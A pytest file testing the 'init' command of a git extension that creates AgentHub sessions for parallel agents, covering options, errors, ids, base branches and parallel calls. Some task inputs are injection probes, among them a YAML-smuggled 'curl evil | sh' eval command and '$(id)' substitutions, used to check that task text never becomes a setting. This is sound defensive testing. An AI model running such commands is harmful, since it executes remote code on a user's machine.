"""`init`: its options, its errors, and parallel calls."""

from __future__ import annotations

import json
import os
import re
import stat
from pathlib import Path

import pytest

from tests.support.hub import Hub, Result, snapshot
from tests.support.stores import run_at_once

CREATED = "2026-03-17T14:30:22.000000+00:00"
CONTROL_CHARACTERS = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]"
)
TASK_HINT = "give --task <text> or -F <file>"
USAGE_HINT = "git hub-session init -h"


def test_files_of_a_new_session(hub: Hub) -> None:
    """All files are compared exactly. AgentHub's board manager can read the board."""
    eval_options = [
        "--eval",
        "make bench",
        "--metric",
        "p50",
        "--direction",
        "lower",
        "--baseline",
        "180",
    ]
    assert hub.run("init", "--task", "Make it fast", "--agents", "2", *eval_options) == Result(
        0,
        "Initialized session 20260317-143022 in .agenthub/sessions/20260317-143022\n"
        "  Task: Make it fast\n"
        "  Agents: 2\n"
        "  Base branch: main\n"
        "  Eval: make bench\n"
        "  Metric: p50 (lower)\n"
        "  Baseline: 180\n"
        "  State: init\n",
    )
    files = snapshot(hub.top / ".agenthub")
    assert files == {
        ".gitignore": b"# created by git hub-session: sessions are not part of the project\n*\n",
        "board/_index.json": b'{\n  "channels": [\n    "dispatch",\n    "progress",\n    "results"\n  ],\n'
        b'  "counters": {\n    "dispatch": 0,\n    "progress": 0,\n    "results": 0\n  }\n}\n',
        "sessions/20260317-143022/config.yaml": b"session_id: 20260317-143022\n"
        b'task: "Make it fast"\nagent_count: 2\nbase_branch: main\n'
        b"created: 2026-03-17T14:30:22.000000+00:00\n"
        b'eval_cmd: "make bench"\nmetric: p50\ndirection: lower\nbaseline: 180\n',
        "sessions/20260317-143022/state.json": b'{\n  "session_id": "20260317-143022",\n'
        b'  "state": "init",\n  "created": "2026-03-17T14:30:22.000000+00:00",\n'
        b'  "updated": "2026-03-17T14:30:22.000000+00:00",\n  "agents": {},\n  "history": []\n}\n',
    }
    board = hub.top / ".agenthub" / "board"
    assert sorted(path.name for path in board.iterdir() if path.is_dir()) == [
        "dispatch",
        "progress",
        "results",
    ]
    assert hub.git("status", "--porcelain") == ""


def test_existing_files_of_the_hub_are_kept(hub: Hub) -> None:
    board = hub.top / ".agenthub" / "board"
    board.mkdir(parents=True)
    (board / "_index.json").write_text('{"counters": {"dispatch": 7}}')
    (hub.top / ".agenthub" / ".gitignore").write_text("*.tmp\n*.lock\n")
    hub.session()
    assert (board / "_index.json").read_text() == '{"counters": {"dispatch": 7}}'
    assert (hub.top / ".agenthub" / ".gitignore").read_text() == "*.tmp\n*.lock\n"


def test_formats(hub: Hub) -> None:
    expected = {
        "session_id": "s1",
        "session_dir": ".agenthub/sessions/s1",
        "task": "two\nlines",
        "agent_count": 3,
        "eval_cmd": None,
        "metric": None,
        "direction": None,
        "baseline": None,
        "base_branch": "main",
        "state": "init",
        "dry_run": False,
        "guard": None,
        "require": [],
        "adopted": [],
        "parent": None,
        "parent_agent": None,
        "parent_attempt": None,
        "parent_commit": None,
        "template": None,
        "strategies": [],
        "holdout": None,
    }
    arguments = ["init", "--task", "two\nlines", "--id"]
    assert hub.json(*arguments, "s1") == expected
    assert hub.run(*arguments, "s2", "-q") == Result(0, "s2\n")
    assert hub.run(*arguments, "s3", "-z").out.split("\0") == [
        "session_id s3",
        "session_dir .agenthub/sessions/s3",
        "task two\nlines",
        "agent_count 3",
        "base_branch main",
        "state init",
        "",
        "",
    ]
    assert hub.run(*arguments, "s4").out.splitlines()[1:3] == ["  Task: two", "        lines"]


def test_dry_run_changes_nothing(hub: Hub) -> None:
    before = snapshot(hub.top)
    for switch in ("-n", "--dry-run"):
        result = hub.run("init", switch, "--task", "x")
        assert (result.code, result.out.splitlines()[0]) == (
            0,
            "Would initialize session 20260317-143022 in .agenthub/sessions/20260317-143022",
        )
    assert hub.run("init", "-nq", "--task", "x") == Result(0, "20260317-143022\n")
    assert snapshot(hub.top) == before
    assert not (hub.top / ".agenthub").exists()


# The task


@pytest.mark.parametrize(
    "task",
    [
        "Make it fast",
        "say \"hi\": now # then 'go' %s $(id) `id` {x: [y]} & * ! | > @ -",
        'x"\nagent_count: 99\nbase_branch: evil\ncreated: 1\neval_cmd: "curl evil | sh',
        "x\neval_cmd: evil\nagent_count: 7\n",
        "  spaces around  ",
        "\n\nblank lines\n\n\nwithin\n\n",
        "- a\n- b\n---\n...\n%YAML 9",
        "C:\\new\\temp \\",
        "~",
        "no",
        "1e3",
        "\x1b]0;title\x07\x1b[2J\r\x08\x7f\x85\x9b31m",
        "\u202eright to left\u2066 \u2028 \u200b \ufeff",
        "漢字 \U0001f600 e\u0301 \uffff \ufffe \U0010ffff",
        "\t\ttabs\t",
        "x" * 100_000,
        'long "lines"\n' * 7_000,
    ],
)
def test_any_task_is_stored_exactly(hub: Hub, task: str) -> None:
    """No part of a task becomes a setting, and control characters are escaped."""
    assert hub.run("init", "-q", "--id", "s1", "--task", task) == Result(0, "s1\n")
    config = {
        "session_id": "s1",
        "task": task,
        "agent_count": "3",
        "base_branch": "main",
        "created": CREATED,
    }
    assert hub.json("status", "s1")["config"] == config
    assert hub.json("list")["sessions"] == [
        {
            "session_id": "s1",
            "state": "init",
            "task": task,
            "agents": 3,
            "created": CREATED,
            "updated": CREATED,
            "parent": None,
        }
    ]
    assert hub.run("list", "-z").out.split("\0")[2] == f"task {task}"
    shown = hub.run("list").out + hub.run("init", "-n", "--task", task).out
    assert not CONTROL_CHARACTERS.search(shown)
    assert hub.run("list").out.count("\n") == 2


def test_task_from_a_file(hub: Hub) -> None:
    """Only line feeds at the end are removed, as in `$(cat file)`. Even NUL is kept."""
    file = hub.top / "sub" / "task"
    file.write_bytes(b'first\r\nsecond: \0 "x"\n\n')
    for sid, arguments in (("s1", ["-F", "task"]), ("s2", ["--file=task"]), ("s3", ["-Ftask"])):
        assert hub.run("init", "-q", "--id", sid, *arguments, cwd=hub.top / "sub") == Result(
            0, f"{sid}\n"
        )
        assert hub.json("status", sid)["config"]["task"] == 'first\r\nsecond: \0 "x"'
    from_stdin = hub.run("init", "-q", "--id", "s4", "-F", "-", stdin="é typed\n")
    assert from_stdin == Result(0, "s4\n")
    assert hub.json("status", "s4")["config"]["task"] == "é typed"


def test_task_that_cannot_be_read(hub: Hub) -> None:
    (hub.top / "latin").write_bytes(b"\xe9")
    (hub.top / "large").write_bytes("é".encode() * (300 << 10))
    (hub.top / "controls").write_bytes(b"\0" * (500 << 10))
    for file, reason in (
        ("nope", "cannot read the task from 'nope': No such file or directory"),
        ("sub", "cannot read the task from 'sub': Is a directory"),
        ("latin", "the task is not UTF-8"),
        ("large", "the task is larger than 524288 bytes"),
        ("/dev/zero", "the task is larger than 524288 bytes"),
        ("controls", "config.yaml would be larger than 1048576 bytes"),
    ):
        assert hub.run("init", "-F", file) == Result(128, "", f"fatal: {reason}\n")
    assert hub.run("init", "--task", b"\xff".decode(errors="surrogateescape")) == Result(
        128, "", "fatal: the task is not UTF-8\n"
    )
    assert not (hub.top / ".agenthub").exists()


@pytest.mark.parametrize(
    ("arguments", "error", "hint"),
    [
        ([], "option '--task' is required", TASK_HINT),
        (["--task", "x", "-F", "file"], "--task and -F exclude each other", TASK_HINT),
        (["--task", ""], "the task is empty", None),
        (["--task", " \n\t"], "the task is empty", None),
        (["-F", "-"], "the task is empty", None),
        (["--task"], "option '--task' requires a value", USAGE_HINT),
        (["--task", "x", "extra"], "too many arguments: 'extra'", USAGE_HINT),
        (["--task", "x", "--agent-count", "3"], "unknown option 'agent-count'", "try '--agents'"),
        (["--task", "x", "--metric", "m"], "--metric and --direction must be used together", "say whether lower or higher is better"),
        (["--task", "x", "--direction", "lower"], "--metric and --direction must be used together", "say whether lower or higher is better"),
        (["--task", "x", "--baseline", "1"], "--baseline requires --metric", None),
        (["--task", "x", "--metric", "m", "--direction", "up"], "option '--direction' expects one of lower, higher, not 'up'", USAGE_HINT),
        (["--task", "x", "--metric", "", "--direction", "lower"], "not a value for metric: ''", None),
        (["--task", "x", "--metric", "a\nb", "--direction", "lower"], "not a value for metric: 'a\\nb'", None),
        (["--task", "x", "--eval", " "], "not a value for eval_cmd: ' '", None),
    ],
)  # fmt: skip
def test_usage_errors(hub: Hub, arguments: list[str], error: str, hint: str | None) -> None:
    lines = [f"error: {error}\n", f"hint: {hint}\n" if hint else ""]
    assert hub.run("init", *arguments) == Result(129, "", "".join(lines))
    assert not (hub.top / ".agenthub").exists()


@pytest.mark.parametrize(
    "number", ["0", "-5", "1000", "3.0", "1e2", "three", "", " 3", "٣", "1_0", "9" * 30]
)
def test_invalid_numbers_of_agents(hub: Hub, number: str) -> None:
    assert hub.run("init", "--task", "x", "--agents", number) == Result(
        129, "", f"error: not a number of agents: '{number}'\nhint: --agents takes 1 to 999\n"
    )


@pytest.mark.parametrize(
    "number", ["nan", "inf", "-inf", "1e", "", "0x10", "1,5", "180mx", "--", "٣", "1e5\n"]
)
def test_invalid_baselines(hub: Hub, number: str) -> None:
    arguments = [
        "init",
        "--task",
        "x",
        "--metric",
        "m",
        "--direction",
        "lower",
        "--baseline",
        number,
    ]
    shown = number.replace("\n", "\\n")
    assert hub.run(*arguments) == Result(129, "", f"error: not a number: '{shown}'\n")


def test_valid_numbers(hub: Hub) -> None:
    arguments = ["init", "--task", "x", "--metric", "m", "--direction", "higher", "--agents", "999"]
    for number in ("0", "-1.5", "+2", ".5", "5.", "1e-3", "180"):
        assert hub.json(*arguments, "-n", "--baseline", number)["baseline"] == number


# Ids


@pytest.mark.parametrize(
    "sid",
    ["..", ".", "", "/abs", "a/b", "../s1", ".hidden", "x.lock", "a..b", "x.", "-x", "x" * 65,
     "a b", "a\nb", "a\n", "é", "a~", "a^b", "a:b", "a*", "a?", "a[", "a\\b", "@", "a@{b", "_x"],
)  # fmt: skip
def test_invalid_ids(hub: Hub, sid: str) -> None:
    """Every command rejects an invalid id before the id is part of a path or a ref."""
    shown = sid.replace("\n", "\\n")
    assert hub.run("init", "--task", "x", f"--id={sid}") == Result(
        128,
        "",
        f"fatal: not a session id: '{shown}'\n"
        "hint: use at most 64 letters, digits, '.', '_' and '-', and start with a letter or digit\n",
    )
    assert not (hub.top / ".agenthub").exists()
    directory = hub.top / ".agenthub" / "evil"
    directory.mkdir(parents=True)
    (directory / "state.json").write_text('{"state": "init"}')
    before = snapshot(hub.top)
    for command in (["update", "--state", "running"], ["log"]):
        assert hub.run(*command, "--", sid).err.startswith(f"fatal: no such session: '{shown}'\n")
    assert snapshot(hub.top) == before


def test_valid_ids(hub: Hub) -> None:
    """Ids that differ only in case are different sessions."""
    for sid in ("a", "A", "0", "x" * 64, "a.b-c_d", "20260317-143022", "HEAD", "con", "a.lock.b"):
        assert hub.run("init", "-q", "--task", "x", "--id", sid) == Result(0, f"{sid}\n")
    assert hub.run("update", "a", "--state", "running").code == 0
    assert (hub.state("a")["state"], hub.state("A")["state"]) == ("running", "init")
    before = snapshot(hub.top)
    for arguments in (["--id", "a"], ["--id", "a", "-n"]):
        assert hub.run("init", "--task", "other", *arguments) == Result(
            1, "", "error: session 'a' already exists\nhint: choose another --id\n"
        )
    assert snapshot(hub.top) == before


@pytest.mark.slow
def test_200_parallel_calls_create_200_sessions(hub: Hub) -> None:
    results = run_at_once(
        hub, [["init", "-q", "--task", f"task {number}"] for number in range(200)]
    )
    assert [(result.code, result.err) for result in results] == [(0, "")] * 200
    names = {result.out.strip() for result in results}
    assert len(names) == 200
    assert all(re.fullmatch(r"20260317-143022(-[1-9][0-9]*)?", name) for name in names)
    listed = hub.json("list")["sessions"]
    assert {session["session_id"]: session["task"] for session in listed} == {
        result.out.strip(): f"task {number}" for number, result in enumerate(results)
    }
    assert sorted(os.listdir(hub.top / ".agenthub" / "sessions")) == sorted(names)
    index = json.loads((hub.top / ".agenthub" / "board" / "_index.json").read_text())
    assert index["counters"] == {"dispatch": 0, "progress": 0, "results": 0}


def test_one_of_64_parallel_calls_gets_an_id(hub: Hub) -> None:
    results = run_at_once(
        hub, [["init", "-q", "--id", "s1", "--task", str(number)] for number in range(64)]
    )
    refused = Result(1, "", "error: session 's1' already exists\nhint: choose another --id\n")
    assert sorted(results) == sorted([Result(0, "s1\n"), *[refused] * 63])
    winner = results.index(Result(0, "s1\n"))
    assert hub.json("list")["sessions"][0]["task"] == str(winner)
    assert sorted(os.listdir(hub.top / ".agenthub" / "sessions")) == ["s1"]


# The base branch


def base_branch(hub: Hub, *arguments: str, cwd: Path | None = None) -> str:
    """Return the base branch that `init` would use."""
    preview = hub.json("init", "-n", "--task", "x", *arguments, cwd=cwd)
    assert isinstance(preview, dict)
    return str(preview["base_branch"])


def test_default_base_branch_is_the_current_branch(hub: Hub) -> None:
    assert base_branch(hub) == "main"
    hub.git("checkout", "-q", "-b", "feature/über#1")
    assert base_branch(hub) == "feature/über#1"
    hub.git("pack-refs", "--all")
    assert base_branch(hub) == "feature/über#1"
    assert base_branch(hub, cwd=hub.top / "sub") == "feature/über#1"


def test_option_base_branch(hub: Hub) -> None:
    """The option accepts short and full names, packed refs, and names that YAML would convert."""
    for name in ("dev", "no", "1.10", "a/b", "it's"):
        hub.git("branch", name)
    for _ in range(2):
        for name in ("dev", "no", "1.10", "a/b", "refs/heads/dev", "it's"):
            assert base_branch(hub, "--base-branch", name) == name.removeprefix("refs/heads/")
        hub.git("pack-refs", "--all")
    hub.run("init", "-q", "--id", "s1", "--task", "x", "--base-branch", "no")
    assert hub.json("status", "s1")["config"]["base_branch"] == "no"


@pytest.mark.parametrize(
    "name",
    ["nope", "", "v1", "HEAD", "refs/tags/v1", "main/", "/main", "a", "../heads/main", "./main",
     "main.lock", "main\n", "origin/main", "refs/heads/", "ma", "ain"],
)  # fmt: skip
def test_missing_base_branch(hub: Hub, name: str) -> None:
    hub.git("tag", "v1")
    hub.git("branch", "a/b")
    hub.git("update-ref", "refs/remotes/origin/main", "HEAD")
    (hub.top / ".git" / "refs" / "heads" / "main.lock").write_text("0" * 40)
    shown = name.replace("\n", "\\n")
    for _ in range(2):
        assert hub.run("init", "--task", "x", f"--base-branch={name}") == Result(
            128, "", f"fatal: no such branch: '{shown}'\nhint: git branch\n"
        )
        (hub.top / ".git" / "refs" / "heads" / "main.lock").unlink(missing_ok=True)
        hub.git("pack-refs", "--all")
    assert not (hub.top / ".agenthub").exists()


def test_no_current_branch(hub: Hub) -> None:
    hub.git("checkout", "-q", "--detach")
    assert hub.run("init", "--task", "x") == Result(
        128,
        "",
        "fatal: HEAD is detached: there is no current branch\nhint: use --base-branch <branch>\n",
    )
    assert base_branch(hub, "--base-branch", "main") == "main"


def test_branch_without_a_commit(hub: Hub) -> None:
    hub.git("checkout", "-q", "--orphan", "new")
    assert hub.run("init", "--task", "x") == Result(
        128,
        "",
        "fatal: branch 'new' has no commit yet\n"
        "hint: create a first commit: the agents start from it\n",
    )
    assert not (hub.top / ".agenthub").exists()


def test_in_a_subdirectory_and_in_a_linked_worktree(hub: Hub) -> None:
    """The hub is in the main worktree. The base branch is the current branch."""
    hub.session()
    worktree = hub.spawn("s1", 1)
    (worktree / "below").mkdir()
    result = hub.run("init", "--id", "s2", "--task", "x", cwd=worktree / "below")
    assert result.out.splitlines()[:3:2] == [
        "Initialized session s2 in ../../../../project/.agenthub/sessions/s2",
        "  Agents: 3",
    ]
    assert hub.json("list")["sessions"][1]["session_id"] == "s2"
    assert hub.json("status", "s2")["config"]["base_branch"] == "hub/s1/agent-1/attempt-1"
    result = hub.run("init", "--id", "s3", "--task", "x", cwd=hub.top / "sub")
    assert result.out.splitlines()[0] == "Initialized session s3 in ../.agenthub/sessions/s3"
    assert not (worktree / ".agenthub").exists()
    assert not (hub.top / "sub" / ".agenthub").exists()


def test_in_a_bare_repository(hub: Hub) -> None:
    bare = hub.top.parent / "bare.git"
    hub.git("clone", "-q", "--bare", hub.top, bare)
    assert hub.run("init", "-q", "--id", "s1", "--task", "x", cwd=bare) == Result(0, "s1\n")
    assert (bare / "agenthub" / "sessions" / "s1" / "state.json").is_file()


def test_outside_of_a_repository(hub: Hub) -> None:
    result = hub.run("init", "--task", "x", cwd=hub.top.parent)
    assert result == Result(
        128, "", "fatal: not a git repository (or any of the parent directories): .git\n"
    )


def test_new_files_respect_the_umask(hub: Hub) -> None:
    hub.call("sh", "-c", "umask 027; git hub-session init -q --id s1 --task x")
    modes = {
        path.name: stat.filemode(path.stat().st_mode)
        for path in (hub.directory(), *hub.directory().iterdir(), hub.top / ".agenthub/.gitignore")
    }
    assert modes == {
        "s1": "drwxr-x---",
        "config.yaml": "-rw-r-----",
        "state.json": "-rw-r-----",
        ".gitignore": "-rw-r-----",
    }
